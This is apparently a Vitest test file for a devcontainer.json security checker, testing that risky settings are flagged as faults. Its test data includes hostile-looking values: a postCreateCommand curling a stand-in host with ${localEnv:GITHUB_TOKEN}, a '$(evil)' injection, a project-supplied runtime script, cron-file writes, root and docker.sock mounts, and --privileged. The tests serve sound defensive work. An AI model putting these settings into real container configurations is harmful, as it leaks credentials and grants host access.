// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of devcontainer.json
import { describe, expect, test } from 'vitest';
import { initializeCommand, parseDevContainer } from '../../src/launch/devcontainer/document.ts';
import { migrateDevContainer, newDevContainer, pinDevContainer } from '../../src/launch/devcontainer/edit.ts';
import { projectPaths } from '../../src/launch/devcontainer/engine-words.ts';
import { faultsOf } from '../../src/launch/devcontainer/faults.ts';
import { powersOfLabel } from '../../src/launch/devcontainer/label.ts';
import { formatCheckScript, parseCheckScript, scriptFile } from '../../src/launch/devcontainer/script.ts';

const file = '.devcontainer/devcontainer.json';
const image = `quay.io/triton-dev-containers/cuda:1@sha256:${'a'.repeat(64)}`;
const good = { image, initializeCommand: initializeCommand(file), updateRemoteUserUID: false };
const read = (value: unknown) =>
  parseDevContainer(typeof value === 'string' ? value : JSON.stringify(value), file);
const messages = (value: unknown, path = file) => faultsOf(read(value), path).map(({ message }) => message);

test('what tcf writes has no fault', () => {
  expect(
    messages(
      newDevContainer(image, { runArgs: ['--device=nvidia.com/gpu=all'], relabel: true, user: 'me' }, file),
    ),
  ).toEqual([]);
  expect(messages(good)).toEqual([]);
  expect(
    messages({
      ...good,
      features: {},
      runArgs: ['--device', 'nvidia.com/gpu=all'],
      customizations: { vscode: {} },
      mounts: [
        'source=${localEnv:HOME}/.triton,target=/root/.triton,type=bind,consistency=cached',
        { type: 'volume', source: 'cache-${devcontainerId}', target: '/cache' },
      ],
    }),
  ).toEqual([]);
});

test.for<readonly [string, string]>([
  ['lists', '['],
  ['objects', '{"a":'],
])('%s in one another without end are refused', ([, open]) => {
  expect(() => read(open.repeat(100_000))).toThrow(/nests deeper than 64 levels/);
});

test.for<readonly [string, object, RegExp]>([
  ['a tag', { image: 'quay.io/x:1' }, /is not named by its digest/],
  ['no image', { image: undefined }, /is not named by its digest/],
  ['a Dockerfile', { build: { dockerfile: 'Dockerfile' } }, /"build": a Dockerfile/],
  ['a Dockerfile in the old spelling', { dockerFile: 'Dockerfile' }, /"dockerFile"/],
  ['Compose', { dockerComposeFile: 'compose.yaml' }, /"dockerComposeFile"/],
  ['a Feature', { features: { 'ghcr.io/x/y:1': {} } }, /"features"/],
  ['Features that are no object', { features: [1] }, /"features"/],
  ['a user id that is changed by a build', { updateRemoteUserUID: true }, /updateRemoteUserUID/],
  ['the default of it', { updateRemoteUserUID: undefined }, /updateRemoteUserUID/],
  ['nobody asked', { initializeCommand: undefined }, /"initializeCommand" is not/],
  ['a shell in between', { initializeCommand: 'tcf devcontainer check' }, /"initializeCommand" is not/],
  [
    'something else that may end with 130',
    { initializeCommand: { tcf: initializeCommand(file), own: 'x' } },
    /"initializeCommand" is not/,
  ],
  [
    'another policy',
    { initializeCommand: ['tcf', 'devcontainer', 'check', '--policy', 'x'] },
    /"initializeCommand" is not/,
  ],
  [
    'an empty list of Compose files, for which the CLI takes its own',
    { dockerComposeFile: [] },
    /"dockerComposeFile"/,
  ],
  ['an empty build', { build: {} }, /"build"/],
  ['the end of the flags', { runArgs: ['--'] }, /"--" is not a flag/],
  ['the end of the flags before an image', { runArgs: ['--init', '--', 'evil'] }, /"evil" is not a flag/],
  [
    'a folder inside that ends the mounts that name it',
    { workspaceFolder: '/w,type=bind,source=/', mounts: ['src=x,dst=${containerWorkspaceFolder}/x'] },
    /"workspaceFolder" is .* could end a mount/,
  ],
  ['a folder inside by a variable', { workspaceFolder: '/w${localEnv:CI:,src=/}' }, /could end a mount/],
  [
    'a bind of a path that is not absolute',
    { mounts: ['type=bind,src=data,dst=/x'] },
    /mounts "data" of the/,
  ],
  [
    'the same as an object',
    { mounts: [{ type: 'bind', source: 'data', target: '/x' }] },
    /mounts "data" of the host/,
  ],
  [
    'a target that makes another mount',
    { runArgs: ['-v', 'x:/x${localEnv:CI}'] },
    /could make another mount/,
  ],
  ['a volume by a variable alone', { runArgs: ['-v', '${localEnv:CI}'] }, /could name a place of the host/],
  ['a variable of the host', { runArgs: ['-e', 'GITHUB_TOKEN'] }, /"--env=GITHUB_TOKEN" gives the project/],
  ['all of them', { runArgs: ['-e*'] }, /"--env=\*" gives the project/],
  ['a file that may name some', { runArgs: ['--env-file=${localWorkspaceFolder}/.env'] }, /--env-file/],
  [
    'one among the variables of the container',
    { containerEnv: { A: 'x${localEnv:GITHUB_TOKEN}' } },
    /"containerEnv": "--env=GITHUB_TOKEN"/,
  ],
  ['one by its other name', { remoteEnv: { A: '${env:AWS_SECRET:x}' } }, /"remoteEnv": "--env=AWS_SECRET"/],
  [
    'one in a command',
    { postCreateCommand: ['curl', 'evil/${localEnv:GITHUB_TOKEN}'] },
    /"postCreateCommand": "--env=GITHUB_TOKEN"/,
  ],
  ['a word in the place of the image', { runArgs: ['evil'] }, /would stand in the place of the image/],
  ['an unknown flag', { runArgs: ['--sneaky', 'x'] }, /does not know the flag/],
  ['another root file system', { runArgs: ['--rootfs'] }, /--rootfs/],
  ['a mounted image', { runArgs: ['--mount', 'type=image,src=x,dst=/y'] }, /type=image/],
  [
    'a mounted image that a variable hides',
    { runArgs: ['--mount=typ${localEnv:CI}e=image,src=x,dst=/y'] },
    /could make another mount/,
  ],
  ['an image among the mounts', { mounts: ['type=image,source=x,target=/y'] }, /"mounts": .*type=image/],
  ['one as an object', { mounts: [{ type: 'image', source: 'x', target: '/y' }] }, /type=image/],
  [
    'one in the source of another',
    { mounts: [{ type: 'bind', source: 'x,type=image', target: '/y' }] },
    /type=image/,
  ],
  [
    'one that the default of a variable makes',
    { mounts: ['type=bind,source=${localEnv:CI:x,typ}e=image,target=/y'] },
    /could make another mount/,
  ],
  [
    'a type by a variable',
    { mounts: ['type=${localEnv:CI},source=x,target=/y'] },
    /does not take --mount type=\$/,
  ],
  ['a mount that is a number', { mounts: [1] }, /"mounts": it is not a text/],
  ['a mount of something', { mounts: [{ type: 'bind', source: {}, target: '/y' }] }, /it is not a text/],
  ['the workspace from an image', { workspaceMount: 'type=image,src=x,dst=/y' }, /"workspaceMount"/],
  ['an image that is an object', { image: {} }, /the image "{}" is not named/],
  [
    'a runtime of the project',
    { runArgs: ['--runtime=${localWorkspaceFolder}/evil.sh'] },
    /gives the project something/,
  ],
  ['a program for pid 1', { runArgs: ['--init-path', '/x'] }, /--init-path=\/x/],
  [
    'hooks of the project',
    { runArgs: ['--hooks-dir=${localWorkspaceFolder}/hooks'] },
    /does not take --hooks-dir/,
  ],
  ['a file to be written', { runArgs: ['--cidfile=/etc/cron.d/x'] }, /--cidfile/],
  ['all powers', { privileged: true }, /"privileged": "--privileged"/],
  ['all powers among the arguments', { runArgs: ['--privileged'] }, /"runArgs": "--privileged"/],
  ['a power', { capAdd: ['SYS_ADMIN'] }, /"capAdd": "--cap-add=SYS_ADMIN"/],
  ['a filter switched off', { securityOpt: ['unmask=ALL'] }, /"securityOpt"/],
  ['the processes of the host', { runArgs: ['--pid', 'host'] }, /--pid=host/],
  ['a disk', { runArgs: ['--device=/dev/sda'] }, /--device=\/dev\/sda/],
  ['the socket of the engine', { mounts: ['type=bind,src=/var/run/docker.sock,dst=/s'] }, /docker\.sock/],
  ['the whole host', { mounts: [{ type: 'bind', source: '/', target: '/host' }] }, /mounts "\/" of the host/],
  ['the whole host as the workspace', { workspaceMount: 'type=bind,src=/,dst=/w' }, /"workspaceMount"/],
  [
    'a folder above the project',
    { mounts: ['type=bind,src=${localWorkspaceFolder}/..,dst=/w'] },
    /of the host/,
  ],
  ['another container first', { runArgs: ['--requires=evil'] }, /starts the other container first/],
  ['the network of another container', { runArgs: ['--network=container:evil'] }, /joins another container/],
  ['another engine', { runArgs: ['--url=unix:/x'] }, /does not take --url/],
  ['a key that tcf does not know', { initHostCommand: 'x' }, /does not know the key "initHostCommand"/],
  ['a Compose service', { service: 'x' }, /"service": Compose/],
  ['arguments that are no list', { runArgs: '--privileged' }, /not a list of texts/],
])('%s is a fault', ([, change, message]) => {
  expect(messages({ ...good, ...change })).toEqual([expect.stringMatching(message)]);
});

test('what the user allows by its word, the project has', () => {
  const greedy = { ...good, privileged: true, runArgs: ['--pid', 'host'] };
  const left = (value: object, ...words: readonly string[]) =>
    faultsOf(read(value), file, words).map(({ word }) => word);
  expect(left(greedy)).toEqual(['--pid=host', '--privileged']);
  expect(left(greedy, '--pid=private', '--privileged')).toEqual(['--pid=host']);
  expect(left(greedy, '--pid=host', '--privileged')).toEqual([]);
  expect(left({ ...good, runArgs: ['--requires=evil'] }, '--requires=evil')).toEqual([undefined]);
});

test('a file in a folder of its own is named in its command', () => {
  const own = '.devcontainer/cuda/devcontainer.json';
  expect(messages({ ...good, initializeCommand: initializeCommand(own) }, own)).toEqual([]);
  expect(messages(good, own)).toEqual([expect.stringMatching(/cuda\/tcf-check\.sh/)]);
  const direct = ['tcf', 'devcontainer', 'check'];
  expect(messages({ ...good, initializeCommand: direct })).toEqual([]);
  expect(messages({ ...good, initializeCommand: direct }, own)).toHaveLength(1);
  expect(messages({ ...good, initializeCommand: [...direct, '--file', own] }, own)).toEqual([]);
});

test.for<readonly [string, string, RegExp]>([
  ['a key twice: the last would win', `{"image":"${image}","image":"evil"}`, /the key "image" stands twice/],
  ['a key twice, deep', '{"a":[{"b":1,"b":2}]}', /the key "b" stands twice/],
  ['half a document', '{"image":', /line 1/],
  ['a list', '[]', /not an object/],
  ['nothing', '', /ValueExpected|not an object/],
  ['endless nesting', `{"a":${'['.repeat(100)}${']'.repeat(100)}}`, /nests deeper/],
])('%s is refused', ([, text, message]) => {
  expect(() => read(text)).toThrow(message);
});

test('pinning keeps comments and everything else', () => {
  const text = `// ours
{
  "name": "Triton", // a name
  "image": "quay.io/triton-dev-containers/cuda:1",
  "customizations": { "vscode": { "extensions": ["x"] } },
}
`;
  const pinned = pinDevContainer(read(text), image, file);
  expect(pinned).toContain('// ours\n');
  expect(pinned).toContain('"name": "Triton", // a name');
  expect(messages(pinned)).toEqual([]);
  expect(pinDevContainer(read(pinned), image, file)).toBe(pinned);
});

test('paths in the project are named, since links may lead out of it', () => {
  const runArgs = ['-v', '${localWorkspaceFolder}/a:/a', '--label-file=${localWorkspaceFolder}/labels'];
  const workspaceMount = 'source=${localWorkspaceFolder},target=/w,type=bind';
  expect(projectPaths(read({ ...good, runArgs, workspaceMount }))).toEqual(['a', 'labels', '']);
});

describe('the script', () => {
  const call = ['devcontainer', 'check', '--policy', "it's a policy.yaml", '--allow-http'];
  const text = formatCheckScript({ call, version: '0.1.0' });

  test('says what it was written with', () => {
    expect(parseCheckScript(text)).toEqual({ call, version: '0.1.0' });
    expect(scriptFile('.devcontainer/cuda/devcontainer.json')).toBe('.devcontainer/cuda/tcf-check.sh');
    expect(scriptFile('.devcontainer.json')).toBe('tcf-check.sh');
  });

  test.for([
    ['another line', `${text}true\n`],
    ['another exit', text.replace('exit 1\n', 'exit 0\n')],
    ['a command among the words', text.replace('--allow-http', '$(evil)')],
    ['another verb', text.replace('devcontainer check', 'version')],
    ['no version', text.replace('0.1.0,', 'x,')],
    ['nothing', ''],
  ])('%s is seen', ([, changed]) => {
    expect(parseCheckScript(changed ?? '')).toBeUndefined();
  });
});

test('a file that builds its image becomes one that starts a verified one', () => {
  // As redhat-et/triton-dev-containers generates it (head 7e053cd).
  const theirs = `{
  "build": { "dockerfile": "Dockerfile", "args": { "USERNAME": "\${localEnv:USER}" } },
  "remoteUser": "me",
  "hostRequirements": { "cpus": 4, "gpu": "optional" },
  "runArgs": ["--runtime=nvidia", "--gpus", "all", "--userns=keep-id:uid=1001,gid=1001", "--security-opt=label=disable"],
  // ours
  "workspaceMount": "source=\${localWorkspaceFolder},target=/workspace,type=bind,consistency=cached,Z",
  "updateRemoteUserUID": true
}`;
  const { removed, text } = migrateDevContainer(read(theirs), image, file);
  expect(removed).toEqual(['build']);
  expect(messages(text)).toEqual([]);
  expect(text).toContain('// ours');
  expect(read(text).members).toMatchObject({
    image,
    remoteUser: 'me',
    hostRequirements: { cpus: 4 },
    runArgs: [
      '--device=nvidia.com/gpu=all',
      '--userns=keep-id:uid=1001,gid=1001',
      '--security-opt=label=disable',
    ],
  });
});

test('a command of the project is not thrown away', () => {
  expect(() => pinDevContainer(read({ ...good, initializeCommand: 'make' }), image, file)).toThrow(
    /"make" already/,
  );
});

test.for<readonly [string, string, readonly string[]]>([
  ['nothing', '[]', []],
  ['users and commands inside', '[{"remoteUser":"me","postCreateCommand":"x"}]', []],
  [
    'powers',
    '[{"privileged":true},{"capAdd":["SYS_ADMIN"],"mounts":["source=/,target=/host,type=bind"]}]',
    ['capAdd', 'mounts', 'privileged'],
  ],
  ['one object', '{"entrypoint":"/x","securityOpt":["seccomp=unconfined"]}', ['entrypoint', 'securityOpt']],
  ['powers that are switched off', '{"privileged":false,"capAdd":[]}', []],
  ['a key that nobody knows yet', '{"hostCommand":"x"}', ['hostCommand']],
  [
    'variables of the host',
    '{"remoteEnv":{"A":"${localEnv:GITHUB_TOKEN}","B":"${localEnv:HOME}"}}',
    ['${localEnv:GITHUB_TOKEN}'],
  ],
  ['what the project asks for itself', '{"capAdd":["SYS_PTRACE"]}', []],
])('a label with %s', ([, label, expected]) => {
  expect(powersOfLabel(label, read({ ...good, capAdd: ['SYS_PTRACE'] }))).toEqual(expected);
});

test.for([['x'], ['[1]'], ['{"a":1,"a":2}'], ['[{}],"b":{}']])('the label %s is refused', ([label]) => {
  expect(() => powersOfLabel(label ?? '', read(good))).toThrow();
});
